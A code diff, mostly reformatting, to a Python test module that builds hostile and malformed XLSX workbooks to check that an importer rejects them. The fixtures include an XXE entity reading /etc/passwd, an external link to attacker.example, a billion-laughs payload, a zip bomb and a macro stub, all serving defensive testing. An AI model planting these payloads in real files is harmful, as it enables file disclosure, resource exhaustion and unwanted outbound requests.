@@ -51,7 +51,8 @@ def _zip(members: dict[str, bytes], out: Path) -> Path:
 
 
 def member_changed(name: str | Callable[[Base], str], change: Callable[[bytes], bytes | None]):
-    """A workbook whose member ``name`` (a part name, or a function of the base) is changed (None: removed)."""
+    """A workbook whose member ``name`` (a part name, or a function of the base) is changed
+    (``change`` returning None: removed)."""
 
     def make(base: Base, out: Path) -> Path:
         member = name(base) if callable(name) else name
@@ -77,8 +78,8 @@ def cell(field: str, xml: str, sheet: str = "data.activities"):
         ref = base.coord(field)
 
         def change(data: bytes) -> bytes:
-            data, n = re.subn(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)'.encode(), xml.replace("{r}", ref).encode(), data,
-                              count=1, flags=re.S)
+            new = xml.replace("{r}", ref).encode()
+            data, n = re.subn(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)'.encode(), new, data, count=1, flags=re.S)
             if n == 0:  # the field is blank for this record: add the cell to its row
                 data, n = re.subn(rf'(<row r="{base.orders}"[^>]*>)'.encode(),
                                   rb"\1" + xml.replace("{r}", ref).encode(), data, count=1)
@@ -127,8 +128,8 @@ def edited(change: Callable[[openpyxl.Workbook], None]) -> Callable[[Base, Path]
 
 
 def unlisted(sheet: str):
-    return member_changed("xl/workbook.xml", lambda d: re.sub(rf'<sheet name="{re.escape(sheet)}"[^>]*/>'.encode(),
-                                                                b"", d))
+    pattern = rf'<sheet name="{re.escape(sheet)}"[^>]*/>'.encode()
+    return member_changed("xl/workbook.xml", lambda d: re.sub(pattern, b"", d))
 
 
 def _inline(text: str) -> str:
@@ -147,11 +148,13 @@ def _external_link(base: Base, out: Path) -> Path:
     members = dict(base.members)
     members["xl/externalLinks/externalLink1.xml"] = (
         b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
-        b'<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1">'
+        b'<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
+        b'r:id="rId1">'
         b"<sheetNames><sheetName val=\"S\"/></sheetNames></externalBook></externalLink>")
     members["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
         b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
-        b'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
+        b'Id="rId1" '
+        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
         b'Target="http://attacker.example/owner.xlsx" TargetMode="External"/></Relationships>')
     return _zip(members, out)
 
@@ -178,14 +181,17 @@ HOSTILE: dict[str, tuple[Callable[[Base, Path], Path], str]] = {
     "zip bomb": (_zip_bomb, "zip bomb"),
     "macro-enabled name": (whole(lambda d: d, ".xlsm"), "macro-enabled workbook is refused"),
     "vbaProject.bin inside": (added("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "macro"),
-    "workbook.xml not XML": (member_changed("xl/workbook.xml", lambda d: d[:200]), "cannot be read as a workbook"),
+    "workbook.xml not XML": (member_changed("xl/workbook.xml", lambda d: d[:200]),
+                             "cannot be read as a workbook"),
     "XXE entity in workbook.xml": (member_changed("xl/workbook.xml", lambda d: (
         b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + d)),
         "cannot be read as a workbook"),
-    "rels missing": (member_changed("xl/_rels/workbook.xml.rels", lambda d: None), "cannot be read as a workbook"),
+    "rels missing": (member_changed("xl/_rels/workbook.xml.rels", lambda d: None),
+                     "cannot be read as a workbook"),
     # sheets and their parts
     **{f"part of {s} missing": (sheet_xml(s, lambda d: None), f"sheet {s} is listed") for s in DATA_SHEETS},
-    "part of data.meta damaged": (sheet_xml("data.meta", lambda d: d[: len(d) // 2]), "sheet data.meta: cannot"),
+    "part of data.meta damaged": (sheet_xml("data.meta", lambda d: d[: len(d) // 2]),
+                                  "sheet data.meta: cannot"),
     "part of data.activities not XML": (sheet_xml("data.activities", lambda d: d[: len(d) // 3]),
                                         "sheet data.activities: cannot be read"),
     "billion laughs in a sheet": (sheet_xml("data.activities", lambda d: (
@@ -196,8 +202,8 @@ HOSTILE: dict[str, tuple[Callable[[Base, Path], Path], str]] = {
                                 "sheet data.recipients is missing"),
     "heading row of data.activities cleared": (sheet_xml("data.activities", lambda d: re.sub(
         rb'<row r="1".*?</row>', b"", d, count=1, flags=re.S)), "data.activities!A1"),
-    "unknown heading": (sheet_xml("data.activities", lambda d: d.replace(b"<t>owner</t>", b"<t>responsible</t>",
-                                                                          1)), "unknown column 'responsible'"),
+    "unknown heading": (sheet_xml("data.activities", lambda d: d.replace(
+        b"<t>owner</t>", b"<t>responsible</t>", 1)), "unknown column 'responsible'"),
     # cells
     "formula without a cached value": (cell("owner", '<c r="{r}"><f>"Head of "&amp;"Sales"</f></c>'),
                                        "a formula"),
@@ -217,7 +223,8 @@ HOSTILE: dict[str, tuple[Callable[[Base, Path], Path], str]] = {
     "date out of range": (cell("owner", '<c r="{r}" t="d"><v>99999-99-99T00:00:00</v></c>'),
                           "cannot be read as a cell value"),
     "date serial out of range": (edited(lambda wb: _date_cell(wb)), "a date out of the range"),
-    "boolean not 0 or 1": (cell("owner", '<c r="{r}" t="b"><v>yes</v></c>'), "cannot be read as a cell value"),
+    "boolean not 0 or 1": (cell("owner", '<c r="{r}" t="b"><v>yes</v></c>'),
+                           "cannot be read as a cell value"),
     "shared string index out of range": (cell("owner", '<c r="{r}" t="s"><v>99999</v></c>'),
                                          "cannot be read as a cell value"),
     "number where a JSON list is expected": (cell("purposes", '<c r="{r}" t="n"><v>3</v></c>'),
@@ -248,8 +255,8 @@ HOSTILE: dict[str, tuple[Callable[[Base, Path], Path], str]] = {
     "external link formula": (_external, "a formula"),
     "organisation twice": (edited(lambda wb: wb["data.organisation"].append(
         [c.value for c in wb["data.organisation"][2]])), "there can be only one organisation"),
-    "overflow part number not a number": (edited(lambda wb: _overflow_row(wb, ["data.activities", "C2", "x", "t"])),
-                                          "Overflow!C"),
+    "overflow part number not a number": (
+        edited(lambda wb: _overflow_row(wb, ["data.activities", "C2", "x", "t"])), "Overflow!C"),
     "overflow parts missing": (cell("description", _inline(
         "Start [\u2026 continued on sheet Overflow, 'data.activities'!{r}, 3 parts]")), "are not all there"),
     "row deleted on Controller record": (edited(lambda wb: _delete_last_activity(wb)), "Controller record!A"),
@@ -284,7 +291,8 @@ def _hidden_bad_row(wb: openpyxl.Workbook) -> None:
 
 def _delete_last_activity(wb: openpyxl.Workbook) -> None:
     ws = wb["Controller record"]
-    last = max(c.row for c in ws["A"] if c.value not in (None, "Activity id") and "continued" not in str(c.value))
+    last = max(c.row for c in ws["A"]
+               if c.value not in (None, "Activity id") and "continued" not in str(c.value))
     ws.delete_rows(last)
 
 
